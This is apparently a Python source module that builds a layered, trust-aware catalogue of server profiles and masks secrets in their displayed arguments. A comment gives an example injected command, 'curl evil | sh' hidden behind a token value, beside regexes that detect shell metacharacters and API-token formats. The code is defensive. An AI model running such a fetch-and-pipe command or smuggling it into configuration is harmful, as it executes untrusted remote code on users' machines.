"""All profiles of all layers as one immutable catalogue: which one wins, which is shadowed, broken or untrusted."""

from __future__ import annotations

import re
from collections.abc import Iterable
from pathlib import Path
from typing import Literal

from msgspec import Struct, structs

from dari.bridge.config.jsonc import JsonValue
from dari.bridge.config.loader import FileContents
from dari.bridge.config.profile import (
    GatewaySettings,
    HttpSettings,
    Input,
    Layer,
    Profile,
    ProfileSource,
    ServerSet,
    StdioSettings,
    safe_url,
)
from dari.bridge.config.secret import SECRET_MARK, Secret, is_sensitive
from dari.errors import Conflict, Denied, InvalidInput, NotFound

State = Literal["ready", "disabled", "broken", "untrusted"]


class LoadedFile(Struct, frozen=True):
    """One file that was there, and whether what it names may run."""

    contents: FileContents
    workspace: Path
    is_trusted: bool = True
    changes: tuple[str, ...] = ()
    """The differences from the trusted version."""
    is_kept: bool = False
    """The file cannot be read right now; this is its last good version."""


class CatalogEntry(Struct, frozen=True, kw_only=True):
    """One name in the catalogue."""

    id: str
    source: ProfileSource
    state: State
    profile: Profile | None = None
    message: str = ""
    hint: str = ""
    shadows: tuple[ProfileSource, ...] = ()
    """The same name in other layers, which does not count."""
    workspace: Path
    inputs: tuple[Input, ...] = ()

    @property
    def kind(self) -> str:
        return self.profile.kind if self.profile else ""


class Catalog(Struct, frozen=True, kw_only=True):
    listed: tuple[CatalogEntry, ...] = ()
    files: tuple[LoadedFile, ...] = ()
    default_id: str | None = None
    sets: tuple[ServerSet, ...] = ()
    gateway: GatewaySettings = GatewaySettings()
    problems: tuple[str, ...] = ()
    built_in: tuple[CatalogEntry, ...] = ()
    """Servers of ours that commands can use without a profile; the gateway does not mount them."""

    @property
    def named(self) -> tuple[CatalogEntry, ...]:
        """Everything that a command can name: a profile wins over a built-in server of the same name."""
        ids = {one.id for one in self.listed}
        return (*self.listed, *(one for one in self.built_in if one.id not in ids))

    def ready(self) -> tuple[Profile, ...]:
        """The profiles that may run."""
        return tuple(one.profile for one in self.listed if one.state == "ready" and one.profile)

    def find(self, id: str) -> CatalogEntry:
        found = next((one for one in self.named if one.id == id), None)
        if found is None:
            raise NotFound(f"unknown server '{id}'", self._known(id))
        return found

    def usable(self, id: str) -> CatalogEntry:
        """The server if it may run, else the error that says what to do."""
        found = self.find(id)
        if found.state == "broken":
            raise InvalidInput(found.message, found.hint)
        if found.state == "untrusted":
            raise Denied(found.message, found.hint)
        if found.state == "disabled":
            raise Conflict(f"the server '{id}' is disabled ({found.source})", f"dari remote enable {id}")
        return found

    def select(self, id: str | None = None) -> CatalogEntry:
        """Design 001 §6: the named server, else the default one."""
        if id is not None:
            return self.usable(id)
        if self.default_id is None:
            raise InvalidInput(
                "no server is named and none is the default", "use --server <id> or --endpoint <url>, or set 'default'"
            )
        return self.usable(self.default_id)

    def _known(self, id: str) -> str:
        from difflib import get_close_matches

        names = [one.id for one in self.named]
        if close := get_close_matches(id, names, n=1):
            return f"did you mean '{close[0]}'?"
        more = "" if self.listed else "; add one: dari remote add"
        return f"known: {', '.join(names)}{more}" if names else "add one: dari remote add"


def join_layers(files: Iterable[LoadedFile]) -> Catalog:
    """These files, strongest first, as one. A name counts where it first stands, unless that is not trusted."""
    files = tuple(files)
    listed: dict[str, CatalogEntry] = {}
    sets: dict[str, ServerSet] = {}
    gateway: GatewaySettings | None = None
    problems: list[str] = []
    for file in files:
        problems.extend(file.contents.problems)
        problems.extend(_duplicates(file.contents))
        for one in _entries(file):
            first = listed.get(one.id)
            if first is None:
                listed[one.id] = one
            elif first.state == "untrusted" and one.state != "untrusted":
                # A cloned project must not take the name of a server that works.
                problems.append(f"{first.source}: '{one.id}' is not trusted; the one in {one.source} is used")
                listed[one.id] = structs.replace(one, shadows=(first.source,))
            else:
                listed[one.id] = structs.replace(first, shadows=(*first.shadows, one.source))
        if not file.is_trusted:
            continue
        for chosen in file.contents.sets:
            sets.setdefault(chosen.name, chosen)
        gateway = gateway or file.contents.gateway
    return Catalog(
        listed=tuple(listed.values()),
        files=files,
        default_id=_default(files, listed),
        sets=tuple(sets.values()),
        gateway=gateway or GatewaySettings(),
        problems=tuple(problems),
    )


def _entries(file: LoadedFile) -> list[CatalogEntry]:
    contents = file.contents
    found: list[CatalogEntry] = []
    for profile in contents.profiles:
        state: State = "ready" if profile.is_enabled else "disabled"
        message = hint = ""
        if not file.is_trusted:
            state = "untrusted"
            message = f"the server '{profile.id}' is named in {contents.path}, which is not trusted"
            hint = f"look at the file, then: dari remote trust {contents.path}"
        found.append(
            CatalogEntry(
                id=profile.id,
                source=profile.source,
                state=state,
                profile=profile,
                message=message,
                hint=hint,
                workspace=file.workspace,
                inputs=contents.inputs,
            )
        )
    names = {one.id for one in found}
    for broken in contents.broken:
        if broken.id not in names:
            found.append(
                CatalogEntry(
                    id=broken.id,
                    source=broken.source,
                    state="broken" if file.is_trusted else "untrusted",
                    message=broken.message,
                    hint=broken.hint,
                    workspace=file.workspace,
                )
            )
    return sorted(found, key=lambda one: one.source.line)


def _duplicates(contents: FileContents) -> list[str]:
    """Servers that are not listed because their name stands before them in the same file."""
    names = {profile.id for profile in contents.profiles}
    return [broken.message for broken in contents.broken if broken.id in names]


def _default(files: tuple[LoadedFile, ...], listed: dict[str, CatalogEntry]) -> str | None:
    """The last `default: true` of the strongest layer that has one (design 001 §5)."""
    order: tuple[Layer, ...] = ("env", "project", "user", "import")
    for layer in order:
        chosen = None
        for file in files:
            if file.contents.layer != layer or not file.is_trusted:
                continue
            for profile in file.contents.profiles:
                if profile.is_default and profile.is_enabled and listed[profile.id].source == profile.source:
                    chosen = profile.id
        if chosen:
            return chosen
    return None


_FLAG = re.compile(r"(--?[\w-]+)(=)?(.*)", re.DOTALL)
_PAIR = re.compile(r"([A-Za-z_][\w.-]*)=(.*)", re.DOTALL)
# `TOKEN=x; curl evil | sh` is a command behind a password, `x://a?&reboot` one behind an address.
_SCRIPT = re.compile(r"[\s;|&`<>/]|\$[({]")
_TOKEN = re.compile(r"(?:sk|pk|rk|gh[pousr]|github_pat|glpat|xox[abeoprs]|npm|hf|AKIA|AIza|eyJ)[-_A-Za-z0-9.]{12,}")


def to_public_json(listed: CatalogEntry) -> dict[str, JsonValue]:
    """One server of `servers --json`."""
    summary: dict[str, JsonValue] = {
        "id": listed.id,
        "state": listed.state,
        "source": {"file": listed.source.file, "line": listed.source.line, "layer": listed.source.layer},
    }
    if listed.source.program:
        summary["program"] = listed.source.program
    if listed.message:
        summary["error"] = {"message": listed.message, "hint": listed.hint}
    if listed.shadows:
        summary["shadows"] = [str(source) for source in listed.shadows]
    if listed.profile:
        summary.update(_public_profile(listed.profile))
    return summary


def summarize_profile(profile: Profile) -> dict[str, object]:
    """What it would run or reach, without secrets, for a person who decides on it."""
    summary: dict[str, object] = {"id": profile.id, "kind": profile.kind, "enabled": profile.is_enabled}
    connection = profile.connection
    if isinstance(connection, StdioSettings):
        summary |= {
            "command": connection.command,
            "args": mask_arguments(connection.args, for_decision=True),
            "env": sorted(connection.env),
        }
        summary |= {"inheritEnv": list(connection.inherit_env), "sandbox": connection.sandbox}
        return summary
    summary |= {"url": safe_url(connection.url), "headers": sorted(connection.headers), "auth": connection.auth.type}
    return summary if not connection.fallback_url else summary | {"fallbackUrl": safe_url(connection.fallback_url)}


def mask_arguments(args: tuple[str, ...], *, for_decision: bool = False) -> list[str]:
    """Arguments without passwords: what a flag of such a name holds, users of addresses, and what looks like a key.
    A person who decides on them sees everything in which a shell could read a command."""
    summary: list[str] = []
    hides_next = False
    for arg in args:
        flag = _FLAG.fullmatch(arg)
        pair = _PAIR.fullmatch(arg)
        if for_decision and _SCRIPT.search(arg):
            summary.append(_without_keys(arg))
        elif hides_next and not flag:
            summary.append(Secret(arg).shown)
        elif flag and flag[2] and is_sensitive(flag[1]):
            summary.append(f"{flag[1]}={Secret(flag[3]).shown}")
        elif pair and is_sensitive(pair[1]):
            summary.append(f"{pair[1]}={Secret(pair[2]).shown}")
        elif "://" in arg and not flag:
            summary.append(safe_url(arg))
        else:
            summary.append(_without_keys(arg))
        hides_next = bool(flag and not flag[2] and is_sensitive(flag[1]))
    return summary


def _without_keys(text: str) -> str:
    return _TOKEN.sub(SECRET_MARK, re.sub(r"(?<=://)[^/@\s]+@", f"{SECRET_MARK}@", text))


def _public_profile(profile: Profile) -> dict[str, JsonValue]:
    summary: dict[str, JsonValue] = {
        "kind": profile.kind,
        "default": profile.is_default,
        "timeoutMs": profile.timeout_ms,
    }
    if profile.description:
        summary["description"] = profile.description
    if profile.notes:
        summary["notes"] = list(profile.notes)
    connection = profile.connection
    if isinstance(connection, StdioSettings):
        summary["command"] = connection.command
        summary["args"] = list[JsonValue](mask_arguments(connection.args))
        summary["env"] = {name: value.shown for name, value in connection.env.items()}
        summary["sandbox"] = connection.sandbox
    else:
        summary.update(_public_http(connection))
    return summary


def _public_http(connection: HttpSettings) -> dict[str, JsonValue]:
    summary: dict[str, JsonValue] = {"url": safe_url(connection.url), "auth": connection.auth.type}
    if connection.headers:
        summary["headers"] = {name: value.shown for name, value in connection.headers.items()}
    if connection.fallback_url:
        summary["fallbackUrl"] = safe_url(connection.fallback_url)
    return summary
